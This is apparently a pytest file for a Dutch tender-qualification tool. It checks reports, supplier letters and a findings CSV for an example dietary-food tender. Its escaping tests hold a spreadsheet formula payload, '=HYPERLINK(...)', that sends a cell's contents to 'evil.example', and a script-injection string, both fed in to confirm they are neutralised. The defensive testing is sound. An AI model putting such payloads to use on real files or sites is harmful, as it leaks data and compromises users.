"""The qualification report, the findings CSV and the letters to the suppliers, on the example tender."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from auction.documents.qualification_report import (
    CSV_COLUMNS,
    QualificationSummary,
    findings_csv,
    qualification_report,
    summary_from_responses,
    supplier_letter,
)
from auction.settings import Settings
from auction.steps.qualification import load_response_files, qualify
from auction.steps.qualification_reports import write_qualification_reports
from auction.steps.setup import init_database
from auction.steps.tender_stream import tender_state
from auction.steps.tenders import load_tender_file
from auction.storage.db import make_engine
from qualification.admission import admission_hash
from qualification.common.errors import StepOutOfOrder
from qualification.criteria import CriteriaSet
from qualification.evaluation import Decision, Verdict, evaluate_all
from qualification.reasons import show_answer
from qualification.responses import SupplierResponse
from scripts.kit.example import (
    EVALUATION_DAY,
    EXAMPLE_LATE_REASON,
    EXAMPLE_REVIEWS,
    example_responses_and_verdicts,
)
from tests.conftest import Procurement
from tests.test_documents import visible_text

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
TITLE = "Gezamenlijke inkoop dieetvoeding 2027–2028"
TENDER_ID = "DV-2027"
ORGANISER = "Stichting Gezamenlijke Zorginkoop (voorbeeld)"
ADMITTED = ["sup-bloesemhof", "sup-klaverveld", "sup-lepelaar", "sup-molenwiek"]
EXCLUDED_FOR = {"sup-ooievaar": ["ALG-06", "UIT-04"], "sup-tulpenburg": ["DV-02", "DV-06"]}
LANGUAGES = ("nl", "en")

Example = tuple[CriteriaSet, list[SupplierResponse], list[Verdict]]


@pytest.fixture(scope="module")
def example() -> Example:
    return example_responses_and_verdicts()


def report(example: Example, language: str = "nl", verdicts: list[Verdict] | None = None) -> tuple[str, str]:
    criteria, responses, final = example
    chosen = final if verdicts is None else verdicts
    summary = summary_from_responses(responses, chosen)
    document = qualification_report(TITLE, TENDER_ID, ORGANISER, criteria, chosen, summary, language)
    return document.markdown, visible_text(document.html)


def letter(example: Example, verdict: Verdict, language: str = "nl") -> tuple[str, str]:
    document = supplier_letter(verdict, example[0], TITLE, ORGANISER, language, tender_id=TENDER_ID)
    return document.markdown, visible_text(document.html)


def by_id(verdicts: list[Verdict]) -> dict[str, Verdict]:
    return {verdict.supplier_id: verdict for verdict in verdicts}


def replace_finding(verdict: Verdict, criterion_id: str, **changes: object) -> Verdict:
    """A copy of the verdict with one finding changed (no validation: for hostile data only)."""
    findings = tuple(
        finding.model_copy(update=changes) if finding.criterion_id == criterion_id else finding
        for finding in verdict.findings
    )
    return verdict.model_copy(update={"findings": findings})


def with_decisions(example: Example, *decisions: Decision) -> list[Verdict]:
    """The example's verdicts with its two review decisions plus ``decisions``."""
    criteria, responses, final = example
    reviews = [f.decision for v in final for f in v.findings if f.decision is not None]
    return evaluate_all(criteria, responses, EVALUATION_DAY, [*reviews, *decisions])


def override(supplier_id: str, criterion_id: str, outcome: str, justification: str) -> Decision:
    return Decision(
        supplier_id=supplier_id,
        criterion_id=criterion_id,
        outcome="pass" if outcome == "pass" else "fail",
        justification=justification,
        decided_at="2026-08-04T09:30:00+02:00",
    )


# ------------------------------------------------------------------------------------------------ report


def test_the_report_lists_every_supplier_with_its_status(example: Example) -> None:
    markdown, page = report(example)
    verdicts = by_id(example[2])
    assert sorted(verdicts) == sorted([*ADMITTED, *EXCLUDED_FOR])
    for supplier_id in ADMITTED:
        assert f"| {verdicts[supplier_id].supplier_name} | `{supplier_id}` | **toegelaten** | – |" in markdown
    for supplier_id, failed in EXCLUDED_FOR.items():
        row = f"| {verdicts[supplier_id].supplier_name} | `{supplier_id}` | **uitgesloten** | {', '.join(failed)} |"
        assert row in markdown
    assert "4 toegelaten, 2 uitgesloten, 0 in afwachting van beoordeling." in page
    english, _ = report(example, "en")
    assert "| `sup-ooievaar` | **excluded** | ALG-06, UIT-04 |" in english


def test_the_report_states_date_criteria_admission_and_the_score_formula(example: Example) -> None:
    criteria = example[0]
    _, page = report(example)
    assert "Beoordelingsdatum 1 augustus 2026" in page
    assert f"versie 1, SHA-256 {criteria.hash}" in page
    assert "Toelatingslijst nog niet vastgesteld" in page
    assert "100 × Σ(gewicht × behaald deel) / Σ gewicht" in page
    assert "half naar even" in page
    assert "Som van de gewichten: 50." in page
    frozen = summary_from_responses(example[1], example[2])
    frozen = QualificationSummary(
        criteria_version=2,
        responses=frozen.responses,
        decisions=frozen.decisions,
        admission_hash=admission_hash(example[2]),
    )
    document = qualification_report(TITLE, TENDER_ID, ORGANISER, criteria, example[2], frozen)
    assert f"vastgesteld, hash {admission_hash(example[2])}" in visible_text(document.html)
    assert "versie 2" in document.markdown and "tussenstand" not in document.markdown


def test_the_report_shows_every_finding_and_the_documents_judged(example: Example) -> None:
    criteria, responses, verdicts = example
    markdown, page = report(example)
    for verdict in verdicts:
        section = page.split(f"{verdict.supplier_name} ({verdict.supplier_id}) Status")[1]
        for finding in verdict.findings:
            assert finding.reason_nl in section
    for response in responses:
        for document in response.documents:
            assert f"`{document.name}` | `{document.sha256}`" in markdown
    tulpenburg = page.split("Tulpenburg Voedingsdiensten B.V. (sup-tulpenburg) Status")[1]
    assert "4 werkdagen (bewijs: tulpenburg/leveringsvoorwaarden.pdf) voldoet niet" in tulpenburg
    assert "Kwaliteitsscore 61,00 (100 × 30,5 / 50)" in tulpenburg


def test_every_decision_is_in_the_report_beside_the_rules_outcome(example: Example) -> None:
    markdown, page = report(example)
    for (supplier_id, criterion_id), (_, justification) in EXAMPLE_REVIEWS.items():
        assert f"### {supplier_id}, {criterion_id}: afronding van een beoordeling" in markdown
        assert f"“{justification}”" in page
        block = page.split(f"{supplier_id}, {criterion_id}: afronding van een beoordeling")[1]
        assert block.index("Uitkomst volgens de regels ter beoordeling") < block.index(
            "Besluit van de organisator voldoet"
        )
        assert "3 augustus 2026 om 10:00 uur" in block.split("Geldigheid")[0]
    assert "voldoet (besluit van de organisator; volgens de regels: ter beoordeling)" in page


def test_an_override_shows_both_outcomes_and_the_letter_cites_it(example: Example) -> None:
    why = "Levertijd van 4 werkdagen aanvaard: de nota van inlichtingen nr. 2 stond dit toe voor de eilanden."
    verdicts = with_decisions(example, override("sup-tulpenburg", "DV-02", "pass", why))
    tulpenburg = by_id(verdicts)["sup-tulpenburg"]
    assert [f.criterion_id for f in tulpenburg.failures] == ["DV-06"]
    _, page = report(example, verdicts=verdicts)
    block = page.split("sup-tulpenburg, DV-02: wijziging van de uitkomst")[1]
    assert "Uitkomst volgens de regels voldoet niet" in block and "Besluit van de organisator voldoet" in block
    assert f"“{why}”" in block
    markdown, text = letter(example, tulpenburg)
    assert "### Criterium DV-06 (Dieetvoeding)" in markdown and "### Criterium DV-02" in markdown
    assert "voldoet niet aan het volgende knock-outcriterium" in text
    assert f"“{why}”" in text


def test_an_override_to_fail_excludes_and_the_letter_gives_the_justification(example: Example) -> None:
    why = "Uit het openbare register van de IGJ blijkt een aanwijzing van maart 2026; de verklaring klopt niet."
    verdicts = with_decisions(example, override("sup-lepelaar", "UIT-04", "fail", why))
    lepelaar = by_id(verdicts)["sup-lepelaar"]
    assert lepelaar.status == "excluded"
    _, text = letter(example, lepelaar)
    failure = text.split("Criterium UIT-04 (Uitsluitende voorwaarden)")[1]
    assert "Uw antwoord 'nee'" in failure
    assert "Uitkomst volgens de regels voldoet" in failure and f"“{why}”" in failure


# ------------------------------------------------------------------------------------------------ letters


def test_an_excluded_suppliers_letter_cites_each_failed_criterion_with_its_own_answer(example: Example) -> None:
    criteria, _, verdicts = example
    for supplier_id, failed in EXCLUDED_FOR.items():
        verdict = by_id(verdicts)[supplier_id]
        markdown, text = letter(example, verdict)
        assert "uitgesloten" in text and "toegelaten" not in text
        assert f"voldoet niet aan de volgende {len(failed)} knock-outcriteria" in text
        for criterion_id in failed:
            criterion = criteria[criterion_id]
            finding = verdict.finding(criterion_id)
            assert finding is not None and finding.answer is not None
            own = show_answer(criterion, criterion.read_answer(finding.answer), "nl")
            assert f"### Criterium {criterion_id} ({criterion.group})" in markdown
            section = text.split(f"Criterium {criterion_id} ({criterion.group})")[1]
            assert f"Vraag {criterion.question_nl}" in section
            assert f"Uw antwoord {own}" in section
            assert finding.reason_nl in section
        assert "Bezwaar" in text and "bezwaar maken bij Stichting Gezamenlijke Zorginkoop" in text
    _, tulpenburg = letter(example, by_id(verdicts)["sup-tulpenburg"])
    assert "Uw antwoord 4 werkdagen" in tulpenburg and "ligt boven het maximum van 2 werkdagen" in tulpenburg
    assert "Uw antwoord 1.000.000 EUR" in tulpenburg and "ligt onder het minimum van 2.500.000 EUR" in tulpenburg
    _, ooievaar = letter(example, by_id(verdicts)["sup-ooievaar"])
    assert "Uw antwoord 30 november 2025" in ooievaar and "Uw antwoord 'ja'" in ooievaar
    _, english = letter(example, by_id(verdicts)["sup-tulpenburg"], "en")
    assert "Your answer 4 working days" in english and "excluded" in english


def test_an_admitted_suppliers_letter_names_the_auctions_and_the_quality_score(example: Example) -> None:
    for supplier_id in ADMITTED:
        verdict = by_id(example[2])[supplier_id]
        assert verdict.quality_score is not None
        _, text = letter(example, verdict)
        assert "toegelaten tot de veilingen" in text and "oefenveiling" in text and "live veiling" in text
        assert "uitgesloten" not in text
        assert f"Uw kwaliteitsscore is {str(verdict.quality_score).replace('.', ',')}" in text
        _, english = letter(example, verdict, "en")
        assert "practice auction" in english and f"Your quality score is {verdict.quality_score}" in english


def test_a_decision_is_in_the_letter_of_its_supplier_only(example: Example) -> None:
    verdicts = by_id(example[2])
    for (supplier_id, criterion_id), (_, justification) in EXAMPLE_REVIEWS.items():
        for other_id, verdict in verdicts.items():
            for language in LANGUAGES:
                markdown, text = letter(example, verdict, language)
                assert (f"“{justification}”" in text) == (other_id == supplier_id)
                if other_id == supplier_id:
                    assert criterion_id in markdown


def test_no_letter_mentions_another_supplier(example: Example) -> None:
    criteria, responses, verdicts = example
    traces = {
        response.supplier.id: {
            response.supplier.id,
            response.supplier.name,
            response.supplier.name.split()[0].lower(),
            response.supplier.kvk,
            response.supplier.agb,
            response.supplier.contact.email,
        }
        for response in responses
    }
    for verdict in verdicts:
        for language in LANGUAGES:
            markdown, text = letter(example, verdict, language)
            for other_id, marks in traces.items():
                if other_id == verdict.supplier_id:
                    continue
                for mark in marks:
                    assert mark.lower() not in markdown.lower(), (verdict.supplier_id, language, mark)
                    assert mark.lower() not in text.lower(), (verdict.supplier_id, language, mark)


def test_no_letter_while_a_review_is_open(example: Example) -> None:
    criteria, responses, _ = example
    pending = by_id(evaluate_all(criteria, responses, EVALUATION_DAY))["sup-bloesemhof"]
    assert pending.status == "pending_review"
    with pytest.raises(ValueError, match="pending review"):
        supplier_letter(pending, criteria, TITLE, ORGANISER)


def test_the_report_refuses_verdicts_that_do_not_fit(example: Example) -> None:
    criteria, responses, verdicts = example
    summary = summary_from_responses(responses, verdicts)
    with pytest.raises(ValueError, match="two verdicts"):
        qualification_report(TITLE, TENDER_ID, ORGANISER, criteria, [*verdicts, verdicts[0]], summary)
    other = verdicts[0].model_copy(update={"criteria_hash": "0" * 64})
    with pytest.raises(ValueError, match="other criteria"):
        qualification_report(TITLE, TENDER_ID, ORGANISER, criteria, [other, *verdicts[1:]], summary)
    wrong = QualificationSummary(criteria_version=1, responses={}, decisions=(), admission_hash="f" * 64)
    with pytest.raises(ValueError, match="admission"):
        qualification_report(TITLE, TENDER_ID, ORGANISER, criteria, verdicts, wrong)


# ------------------------------------------------------------------------------------------------ CSV


def test_the_csv_has_one_row_per_supplier_and_criterion(example: Example) -> None:
    criteria, _, verdicts = example
    content = findings_csv(criteria, verdicts)
    assert "\r" not in content and content.endswith("\n")
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert len(rows) == 6 * 27 == len(verdicts) * len(criteria)
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [(r["supplier_id"], r["criterion_id"]) for r in rows] == [
        (v.supplier_id, c.id) for v in sorted(verdicts, key=lambda v: v.supplier_id) for c in criteria
    ]
    cell = {(r["supplier_id"], r["criterion_id"]): r for r in rows}
    dv06 = cell[("sup-tulpenburg", "DV-06")]
    assert [dv06[key] for key in ("outcome", "evaluated_outcome", "answer", "kind")] == [
        "fail",
        "fail",
        "1000000",
        "knock-out",
    ]
    assert "ligt onder het minimum van 2.500.000 EUR" in dv06["reason_nl"]
    reviewed = cell[("sup-bloesemhof", "DV-06")]
    assert [reviewed[key] for key in ("outcome", "evaluated_outcome", "decision")] == ["pass", "needs_review", "pass"]
    assert reviewed["justification"] == EXAMPLE_REVIEWS[("sup-bloesemhof", "DV-06")][1]
    scored = cell[("sup-bloesemhof", "KB-03")]
    assert Decimal(scored["weight"]) == 20 and Decimal(scored["fraction"]) > 0
    assert cell[("sup-bloesemhof", "ALG-01")]["answer"] == "true"


def test_the_csv_neutralises_formulas_and_keeps_quotes_and_newlines(example: Example) -> None:
    criteria, _, verdicts = example
    hostile = replace_finding(
        verdicts[0],
        "DV-07",
        answer='=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        evidence="+31 20 123 4567",
        reason_nl='regel één\nregel "twee", met komma',
    ).model_copy(update={"supplier_name": "@SUM(1+1)"})
    hostile = replace_finding(hostile, "DV-06", answer="-2+3", evidence="-12")
    content = findings_csv(criteria, [hostile, *verdicts[1:]])
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert len(rows) == 6 * 27
    dv07 = next(r for r in rows if r["criterion_id"] == "DV-07" and r["supplier_id"] == hostile.supplier_id)
    assert dv07["answer"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    assert dv07["evidence"] == "'+31 20 123 4567"
    assert dv07["supplier_name"] == "'@SUM(1+1)"
    assert dv07["reason_nl"] == 'regel één\nregel "twee", met komma'
    dv06 = next(r for r in rows if r["criterion_id"] == "DV-06" and r["supplier_id"] == hostile.supplier_id)
    assert dv06["answer"] == "'-2+3" and dv06["evidence"] == "-12"  # a plain number is no formula
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value


# ------------------------------------------------------------------------------------------------ HTML, bytes


def test_data_is_escaped_in_every_document(example: Example) -> None:
    criteria, responses, verdicts = example
    script = "<script>alert('x')</script>"
    hostile = replace_finding(verdicts[-1], "DV-02", reason_nl=f"reden {script}", evidence=f"{script}.pdf")
    hostile = hostile.model_copy(update={"supplier_name": f"Tulpenburg {script} & Zn"})
    chosen = [*verdicts[:-1], hostile]
    summary = summary_from_responses(responses, chosen)
    documents = [
        qualification_report(TITLE, TENDER_ID, ORGANISER, criteria, chosen, summary),
        supplier_letter(hostile, criteria, TITLE, f"Organisator {script}"),
    ]
    for document in documents:
        assert "<script" not in document.html
        assert "&lt;script&gt;" in document.html
        assert script in visible_text(document.html)
        assert re.search(r"(?<!\\)<script", document.markdown) is None
        assert "\\<script\\>" in document.markdown


def test_the_same_inputs_give_the_same_bytes(example: Example) -> None:
    criteria, responses, verdicts = example
    again = example_responses_and_verdicts()
    summary, summary_again = summary_from_responses(responses, verdicts), summary_from_responses(*again[1:])
    for language in LANGUAGES:
        first = qualification_report(TITLE, TENDER_ID, ORGANISER, criteria, verdicts, summary, language)
        second = qualification_report(
            TITLE, TENDER_ID, ORGANISER, again[0], list(reversed(again[2])), summary_again, language
        )
        assert first == second
        for one, two in zip(verdicts, again[2], strict=True):
            if one.status != "pending_review":
                assert supplier_letter(one, criteria, TITLE, ORGANISER, language) == supplier_letter(
                    two, again[0], TITLE, ORGANISER, language
                )
    assert findings_csv(criteria, verdicts) == findings_csv(again[0], list(reversed(again[2])))


# ------------------------------------------------------------------------------------------------ files


async def test_write_qualification_reports_writes_every_file(procurement: Procurement, tmp_path: Path) -> None:
    out = tmp_path / "kwalificatie"
    paths = await write_qualification_reports(procurement.engine, procurement.tender_id, out)
    tender = procurement.tender_id
    suppliers = [*ADMITTED, *EXCLUDED_FOR]
    expected = {
        *(out / f"kwalificatierapport-{tender}.{lang}{ext}" for lang in LANGUAGES for ext in (".md", ".html")),
        out / f"bevindingen-{tender}.csv",
        *(
            out / "letters" / f"kwalificatie-{supplier}.{lang}{ext}"
            for supplier in suppliers
            for lang in LANGUAGES
            for ext in (".md", ".html")
        ),
    }
    assert set(paths) == expected and len(paths) == len(expected)
    assert all(path.is_file() for path in paths)
    state = await tender_state(procurement.engine, tender)
    assert state.admission is not None
    page = visible_text((out / f"kwalificatierapport-{tender}.nl.html").read_text(encoding="utf-8"))
    assert f"hash {state.admission.admission_hash}" in page and "vastgesteld op" in page
    assert f"tot en met volgnummer {state.seq}" in page
    rows = list(csv.DictReader(io.StringIO((out / f"bevindingen-{tender}.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 6 * 27
    tulpenburg = (out / "letters" / "kwalificatie-sup-tulpenburg.nl.md").read_text(encoding="utf-8")
    assert "DV-02" in tulpenburg and "DV-06" in tulpenburg and "4 werkdagen" in tulpenburg
    assert "T.a.v." in tulpenburg and "Pieter Zwanenburg" in tulpenburg
    before = {path: path.read_bytes() for path in paths}
    again = await write_qualification_reports(procurement.engine, tender, out)
    assert again == paths and {path: path.read_bytes() for path in again} == before


async def test_no_reports_before_qualification_and_no_letters_before_the_freeze(tmp_path: Path) -> None:
    settings = Settings(db_path=tmp_path / "auction.db")
    await init_database(settings)
    engine = make_engine(settings.database_url)
    out = tmp_path / "out"
    try:
        loaded = await load_tender_file(engine, EXAMPLES / "tender.toml")
        await load_response_files(
            engine,
            loaded.tender.id,
            sorted((EXAMPLES / "responses").glob("*.json")),
            late_reason=EXAMPLE_LATE_REASON,
        )
        with pytest.raises(StepOutOfOrder, match="qualify"):
            await write_qualification_reports(engine, loaded.tender.id, out)
        assert not out.exists()
        await qualify(engine, loaded.tender.id, EVALUATION_DAY)  # two reviews stay open: nothing is frozen
        paths = await write_qualification_reports(engine, loaded.tender.id, out, ("nl",))
        assert [path.name for path in paths] == [
            "kwalificatierapport-DV-2027.nl.md",
            "kwalificatierapport-DV-2027.nl.html",
            "bevindingen-DV-2027.csv",
        ]
        assert not (out / "letters").exists()
        page = visible_text(paths[1].read_text(encoding="utf-8"))
        assert "Toelatingslijst nog niet vastgesteld" in page and "tussenstand" in page
        assert "2 in afwachting van beoordeling" in page
    finally:
        await engine.dispose()
